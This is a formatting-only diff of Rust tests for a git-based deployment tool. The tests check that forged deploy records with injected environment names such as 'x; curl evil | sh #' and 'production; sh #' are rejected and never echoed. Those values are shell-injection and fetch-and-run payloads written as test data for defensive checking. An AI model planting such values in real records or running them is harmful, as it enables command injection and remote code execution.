@@ -36,7 +36,11 @@ fn forge(deploy: &Deploy, state: &Value, message: &str) {
 /// The state that the record has now.
 #[track_caller]
 fn state(deploy: &Deploy) -> Value {
-    serde_json::from_str(&deploy.git(&deploy.main, &["cat-file", "blob", "refs/smp/record:state.json"])).unwrap()
+    serde_json::from_str(&deploy.git(
+        &deploy.main,
+        &["cat-file", "blob", "refs/smp/record:state.json"],
+    ))
+    .unwrap()
 }
 
 /// An announcement of a promotion there, which is still open.
@@ -67,7 +71,10 @@ fn all(deploy: &Deploy) -> Vec<crate::support::Run> {
 /// Takes the last forged event away again.
 #[track_caller]
 fn unforge(deploy: &Deploy) {
-    deploy.git(&deploy.main, &["update-ref", "refs/smp/record", "refs/smp/record^"]);
+    deploy.git(
+        &deploy.main,
+        &["update-ref", "refs/smp/record", "refs/smp/record^"],
+    );
 }
 
 #[test]
@@ -80,13 +87,27 @@ fn an_environment_with_a_shell_in_its_name_is_on_no_record_and_in_nobodys_hint()
         forge(&deploy, &forged, "x\n");
         let before = deploy.snapshot();
         let status = deploy.smp(&["status"]);
-        status.ok().prints_among("the record cannot be read").prints_among("a name that no smp.toml has");
+        status
+            .ok()
+            .prints_among("the record cannot be read")
+            .prints_among("a name that no smp.toml has");
         let told = deploy.smp(&["promote", "-n", "--json"]);
-        assert_eq!(told.exits(1).json()["refusal"]["code"], "record-unreadable", "{name:?}");
-        let runs = if name == NAMES[0] { all(&deploy) } else { vec![status, told] };
+        assert_eq!(
+            told.exits(1).json()["refusal"]["code"],
+            "record-unreadable",
+            "{name:?}"
+        );
+        let runs = if name == NAMES[0] {
+            all(&deploy)
+        } else {
+            vec![status, told]
+        };
         for run in runs {
             is_harmless(&run);
-            run.never_shows("curl").never_shows("canary").never_shows("prod uction").never_shows("../production");
+            run.never_shows("curl")
+                .never_shows("canary")
+                .never_shows("prod uction")
+                .never_shows("../production");
         }
         assert_eq!(deploy.snapshot(), before);
         unforge(&deploy);
@@ -99,10 +120,18 @@ fn an_event_with_such_a_name_is_left_out_of_history_which_goes_on_without_it() {
     deploy.smp(&["signoff"]).ok();
     promotes(&deploy, &[]).ok();
     let commit = deploy.nth(5);
-    let rest = format!("Smp-Commit: {commit}\nSmp-Commits: 1\nSmp-Environment: x; curl evil | sh #\n");
-    forge(&deploy, &state(&deploy), &format!("x\n\nSmp-Event: promoted\nSmp-Id: 00000000deadbeef\n{rest}"));
+    let rest =
+        format!("Smp-Commit: {commit}\nSmp-Commits: 1\nSmp-Environment: x; curl evil | sh #\n");
+    forge(
+        &deploy,
+        &state(&deploy),
+        &format!("x\n\nSmp-Event: promoted\nSmp-Id: 00000000deadbeef\n{rest}"),
+    );
     let run = deploy.smp(&["history"]);
-    run.ok().prints_among("production").never_shows("curl").says("1 event");
+    run.ok()
+        .prints_among("production")
+        .never_shows("curl")
+        .says("1 event");
     is_harmless(&run);
 }
 
@@ -113,18 +142,30 @@ type Edit = fn(&mut Value);
 fn no_place_of_the_record_takes_such_a_name() {
     let bad = "production; sh #";
     let edits: [(&str, Edit); 6] = [
-        ("candidate", |state| state["candidate"]["environment"] = json!("production; sh #")),
-        ("goal", |state| state["candidate"]["targets"][0]["environment"] = json!("production; sh #")),
-        ("owed", |state| state["owed"][0]["environment"] = json!("production; sh #")),
-        ("channel", |state| state["owed"][0]["channel"] = json!("production; sh #")),
+        ("candidate", |state| {
+            state["candidate"]["environment"] = json!("production; sh #")
+        }),
+        ("goal", |state| {
+            state["candidate"]["targets"][0]["environment"] = json!("production; sh #")
+        }),
+        ("owed", |state| {
+            state["owed"][0]["environment"] = json!("production; sh #")
+        }),
+        ("channel", |state| {
+            state["owed"][0]["channel"] = json!("production; sh #")
+        }),
         ("deploys", |state| {
             let deploy = json!({"commit": state["candidate"]["commit"], "from": null, "by": {"name": "x", "email": "x"}, "at": 0});
             state["deploys"]["production; sh #"] = deploy;
         }),
-        ("held", |state| state["held"] = json!({"production; sh #": []})),
+        ("held", |state| {
+            state["held"] = json!({"production; sh #": []})
+        }),
     ];
     let deploy = super::recorded_like(
-        crate::support::World::deploy_like().without_pages().toml("[channels.technical]\nkind = \"slack\"\n\n"),
+        crate::support::World::deploy_like()
+            .without_pages()
+            .toml("[channels.technical]\nkind = \"slack\"\n\n"),
     );
     deploy.smp(&["propose", "--yes"]);
     let lawful = state(&deploy);
@@ -134,7 +175,9 @@ fn no_place_of_the_record_takes_such_a_name() {
         assert_ne!(forged, lawful, "{place}");
         forge(&deploy, &forged, "x\n");
         let run = deploy.smp(&["status"]);
-        run.ok().prints_among("the record cannot be read").never_shows(bad);
+        run.ok()
+            .prints_among("the record cannot be read")
+            .never_shows(bad);
         unforge(&deploy);
     }
 }
@@ -146,11 +189,18 @@ fn an_environment_that_another_smp_toml_has_is_said_to_be_so_and_becomes_no_comm
     forged["deploying"] = announced(&deploy, "eu");
     forge(&deploy, &forged, "x\n");
     let status = deploy.smp(&["status"]);
-    status.ok().prints_among("to eu, by Mallory").prints_among("; this smp.toml has no environment eu;");
-    status.never_shows("promote eu").prints_among("next: git smp setup\n");
+    status
+        .ok()
+        .prints_among("to eu, by Mallory")
+        .prints_among("; this smp.toml has no environment eu;");
+    status
+        .never_shows("promote eu")
+        .prints_among("next: git smp setup\n");
     status.prints_among("note: that deploy goes on with the smp.toml of those who deploy there");
     let run = deploy.smp(&["stage", "--fix", deploy.nth(6), "--yes"]);
-    run.exits(1).says("because: this smp.toml has no environment eu").never_shows("promote eu");
+    run.exits(1)
+        .says("because: this smp.toml has no environment eu")
+        .never_shows("promote eu");
     run.says("hint: take the team's smp.toml, then: git smp setup");
     for run in all(&deploy) {
         run.never_shows("promote eu");
@@ -161,10 +211,15 @@ fn an_environment_that_another_smp_toml_has_is_said_to_be_so_and_becomes_no_comm
 fn a_sign_off_leads_to_no_goal_that_this_smp_toml_lacks() {
     let deploy = proposed();
     let mut forged = state(&deploy);
-    let goals = ["eu", "production"].map(|name| json!({"environment": name, "from": null, "reached": false}));
+    let goals = ["eu", "production"]
+        .map(|name| json!({"environment": name, "from": null, "reached": false}));
     forged["candidate"]["targets"] = json!(goals);
     forge(&deploy, &forged, "x\n");
-    deploy.smp(&["signoff"]).ok().says("next: git smp promote production\n").never_shows("promote eu");
+    deploy
+        .smp(&["signoff"])
+        .ok()
+        .says("next: git smp promote production\n")
+        .never_shows("promote eu");
 }
 
 #[test]
@@ -172,8 +227,23 @@ fn history_stays_readable_after_an_environment_was_renamed() {
     let deploy = proposed();
     deploy.smp(&["signoff"]).ok();
     promotes(&deploy, &[]).ok();
-    deploy.write_toml(&deploy.toml().replace("environments.production", "environments.live"));
-    deploy.smp(&["setup", "--yes"]).ok().prints_among("on upstream; ");
-    deploy.smp(&["history"]).ok().prints_among("production").never_shows("cannot be read");
-    deploy.smp(&["status"]).ok().never_shows("unknown: the record").prints_among("next: ");
+    deploy.write_toml(
+        &deploy
+            .toml()
+            .replace("environments.production", "environments.live"),
+    );
+    deploy
+        .smp(&["setup", "--yes"])
+        .ok()
+        .prints_among("on upstream; ");
+    deploy
+        .smp(&["history"])
+        .ok()
+        .prints_among("production")
+        .never_shows("cannot be read");
+    deploy
+        .smp(&["status"])
+        .ok()
+        .never_shows("unknown: the record")
+        .prints_among("next: ");
 }
